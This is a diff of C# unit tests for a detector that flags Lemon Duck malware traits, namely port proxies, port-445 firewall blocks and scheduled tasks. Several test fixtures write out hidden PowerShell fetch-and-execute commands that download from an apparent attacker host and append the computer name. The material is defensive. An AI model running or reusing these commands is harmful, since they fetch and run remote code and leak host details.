@@ -55,6 +55,9 @@ public sealed class CatalogueTests
     [InlineData("port-proxy", "*/65529", "1.1.1.1/53", "lemonduck.network")]
     [InlineData("port-proxy", "*/8080", "10.1.2.3/3389", "defence.port-proxy")]
     [InlineData("firewall-rule", "x", "v2.10|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=deny445|", "lemonduck.network")]
+    [InlineData("firewall-rule", "x", "v2.10|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=k7q|", "defence.firewall-shut")]
+    [InlineData("firewall-rule", "x", "v2.10|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|RA4=10.0.0.0/255.0.0.0|Name=Guests|", null)]
+    [InlineData("firewall-rule", "x", "v2.10|Action=Block|Active=FALSE|Dir=In|Protocol=6|LPort=445|Name=k7q|", null)]
     [InlineData("firewall-rule", "x", "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=443|Name=Contoso Monitoring|", null)]
     [InlineData("firewall-rule", "x", "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=5985|Name=rm|", "defence.firewall")]
     [InlineData("firewall-rule", "x", "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=3389|RA4=10.0.0.0/255.0.0.0|Name=Admins|", null)]
@@ -63,6 +66,38 @@ public sealed class CatalogueTests
     [InlineData("persistent-route", "10.8.0.0,255.255.0.0,10.1.1.1,1", "", null)]
     public void Proxies_rules_and_routes_are_told_by_what_they_do(string kind, string name, string rule, string? detector) =>
         Assert.Equal(detector, Run(new DefenceDetector(), Item(kind, name, "unknown", ("rule", rule))).SingleOrDefault()?.Detector);
+
+    [Fact]
+    public void A_shut_door_is_low_alone_and_what_lemon_duck_does_beside_its_proxy()
+    {
+        var rule = Item("firewall-rule", "{1}", "unknown", ("rule", "v2.10|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=k7q|"));
+        Assert.Equal(Severity.Low, Assert.Single(Run(new DefenceDetector(), rule)).Severity);
+        var both = Run(new DefenceDetector(), rule, Item("port-proxy", "*/65531", "unknown", ("rule", "1.1.1.1/53")));
+        Assert.Equal(["lemonduck.network", "lemonduck.network"], both.Select(finding => finding.Detector));
+        Assert.All(both, finding => Assert.Equal("finding.lemonduck.network.like.title", finding.TitleKey));
+        Assert.Contains(both, finding => finding.Subject.Value == "firewall rule k7q");
+    }
+
+    [Theory]
+    [InlineData("http://t.amynx.com/a.jsp?x_20210327*'+$env:COMPUTERNAME", true)]
+    [InlineData("http://t.qp2kz.example/a.jsp?x_20210327*'+$env:COMPUTERNAME", false)]
+    public void A_title_names_lemon_duck_only_by_what_is_its_own(string url, bool isNamed)
+    {
+        var task = Assert.Single(Run(new ScheduledTaskDetector(), Task(@"\qW", "powershell", $"-w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('{url})\"")));
+        Assert.Equal(("lemonduck.task", isNamed ? Severity.Critical : Severity.High), (task.Detector, task.Severity));
+        Assert.Equal(isNamed ? null : "finding.lemonduck.task.like.title", task.TitleKey);
+    }
+
+    [Fact]
+    public void A_bare_word_made_beside_tasks_with_a_payload_is_told_and_alone_it_is_not()
+    {
+        var payload = Task(@"\qW", "powershell", "-w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"");
+        var bare = Task(@"\wqzk", "wqzk");
+        var told = Run(new ScheduledTaskDetector(), payload, bare).Single(finding => finding.Subject.Value == @"\wqzk");
+        Assert.Equal((Severity.High, "bare-word-beside-others"), (told.Severity, told.Details.Single(detail => detail.Key == "reasons").Value));
+        Assert.Empty(Run(new ScheduledTaskDetector(), bare));
+        Assert.DoesNotContain(Run(new ScheduledTaskDetector(), payload, bare with { RegisteredUtc = bare.RegisteredUtc!.Value.AddDays(-3) }), finding => finding.Subject.Value == @"\wqzk");
+    }
 
     [Theory]
     [InlineData("8.8.8.8,9.9.9.9", "lemonduck.network")]
